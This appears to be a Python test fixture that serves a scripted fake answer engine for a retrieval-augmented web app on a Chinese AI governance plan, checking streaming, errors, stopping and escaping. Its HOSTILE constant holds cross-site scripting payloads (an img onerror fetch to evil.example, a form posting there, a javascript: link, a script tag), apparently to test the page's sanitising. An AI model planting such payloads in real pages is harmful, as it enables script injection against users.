"""The page served with an engine that plays a script: what it says depends on words in the question.

Run as a program it serves: `python tests/played.py PORT FOLDER`; in FOLDER/log.jsonl it notes what the engine was
asked and when it was stopped. `played(folder)` runs that in a process of its own, and lets a test say when the models
are loaded and when the answer to a question with 很久 in it may end: nothing here depends on who is faster.
No model, no index; everything between this engine and the screen is the real thing.
"""

from __future__ import annotations

import contextlib
import json
import sys
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from types import SimpleNamespace

from browser import free_port, served

from rag.errors import GenerateError
from rag.labels import article_of
from rag.records import Answer, Citation, Document, Hit, Provision, Removed, Sentence, Update
from rag.serve import serve

HOSTILE = '<img src=x onerror="fetch(\'http://evil.example/a\')"><form action="http://evil.example/f">' + (
    "![p](http://evil.example/p) [x](javascript:alert(1)) <script>document.title='owned'</script> $$x$$"
)
SIX = "六、推进数据供给。依法有序推动数据流动，打造高质量数据集。加强个人隐私保护。"
SEVEN = "七、妥善应对能源和环境问题。倡导可持续发展理念，推广低功耗芯片、高效算法等绿色计算技术。开展合作研究。"
ODD = f"八、{HOSTILE}结束。"
TEXT = "\n\n".join(["序言。", SIX, SEVEN, ODD])


def plan() -> Document:
    """Three articles, each with its sentences; the third is hostile."""
    provisions = []
    for number, article in (("6", SIX), ("7", SEVEN), ("8", ODD)):
        start = TEXT.index(article)
        provisions.append(Provision((("article", number),), start, start + len(article)))
        for at, sentence in enumerate(filter(None, article.split("。") if number != "8" else [article[:-1]]), 1):
            begin = TEXT.index(sentence, start)
            path = (("article", number), ("sentence", str(at)))
            provisions.append(Provision(path, begin, begin + len(sentence) + 1))
    title, by, date = "人工智能全球治理行动计划", "新华社", "2025-07-26"
    return Document("plan", title, "zh", "policy", "plan.md", TEXT, tuple(provisions), by, date)


def cite(document: Document, n: int, article: str, sentence: str) -> Citation:
    path = (("article", article), ("sentence", sentence))
    found = document.by_path[path]
    quote = document.text_of(found)
    return Citation(
        n, document.doc_id, document.title, article_of(path), path, document.label(path), quote, found.start, found.end
    )


class PlayedEngine:
    """Answers by what the question contains; writes what happens to it into a log."""

    def __init__(self, folder: Path) -> None:
        self.document, self.folder, self.log = plan(), folder, folder / "log.jsonl"

    def note(self, **what: object) -> None:
        with self.log.open("a", encoding="utf-8") as file:
            file.write(json.dumps(what, ensure_ascii=False) + "\n")

    def documents(self) -> Sequence[Document]:
        return [self.document]

    def ready(self) -> str | None:
        return "正在装载模型…" if (self.folder / "loading").exists() else None

    def ask(self, question: str, history: Sequence[str]) -> Iterator[Update]:
        self.note(asked=question, history=list(history))
        document = self.document
        hits = tuple(Hit(document, document.by_path[(("article", n),)], 0.9, "dense") for n in ("7", "6"))
        answer = Answer(question, "zh", llm="played")
        yield Update("retrieve", answer)
        time.sleep(0.2)
        answer = Answer(question, "zh", retrieved=hits, llm="played")
        yield Update("generate", answer)
        if "出错" in question:
            raise GenerateError("page_port_range", port=99, other=1)
        if "故障" in question:
            raise ZeroDivisionError("a fault of the program")
        if "罚款" in question:
            yield Update("done", Answer(question, "zh", retrieved=hits, reason="no_evidence"))
            return
        time.sleep(0.6)
        try:
            yield from self.sentences(question, hits)
        except GeneratorExit:
            self.note(stopped=question)
            raise

    def sentences(self, question: str, hits: tuple[Hit, ...]) -> Iterator[Update]:
        hostile = "攻击" in question
        cited = [cite(self.document, 1, "7", "2")]
        cited.append(cite(self.document, 2, "8", "1") if hostile else cite(self.document, 2, "6", "3"))
        said = [Sentence("推广低功耗芯片、高效算法等绿色计算技术。", (1,), "supported")]
        said.append(Sentence((HOSTILE if hostile else "加强个人隐私保护") + "。", (2,), "quoted"))
        removed = (Removed(HOSTILE if hostile else "罚款五万元。", "number"),)
        yield Update("generate", Answer(question, "zh", tuple(said[:1]), tuple(cited[:1]), retrieved=hits))
        held, end = self.folder / "finish", time.monotonic() + 60
        while "很久" in question and not held.exists() and time.monotonic() < end:
            time.sleep(0.1)
            yield Update("generate", Answer(question, "zh", tuple(said[:1]), tuple(cited[:1]), retrieved=hits))
        held.unlink(missing_ok=True)
        yield Update("done", Answer(question, "zh", tuple(said), tuple(cited), removed, hits, llm="played"))


@contextlib.contextmanager
def played(folder: Path, loading: bool = False) -> Iterator[SimpleNamespace]:
    """The served page, as `browser.served` gives it, with `log()` (what the engine noted), `loaded()`, `finish()`."""
    port, log = free_port(), folder / "log.jsonl"
    log.touch()
    if loading:
        (folder / "loading").touch()
    with served([sys.executable, __file__, str(port), str(folder)], folder / "output.txt") as site:
        site.log = lambda: [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
        site.loaded = (folder / "loading").unlink
        site.finish = (folder / "finish").touch
        yield site


if __name__ == "__main__":
    engine = PlayedEngine(Path(sys.argv[2]))
    serve(engine, port=int(sys.argv[1]), announce=lambda url: print(url, flush=True))
    print("ended", flush=True)
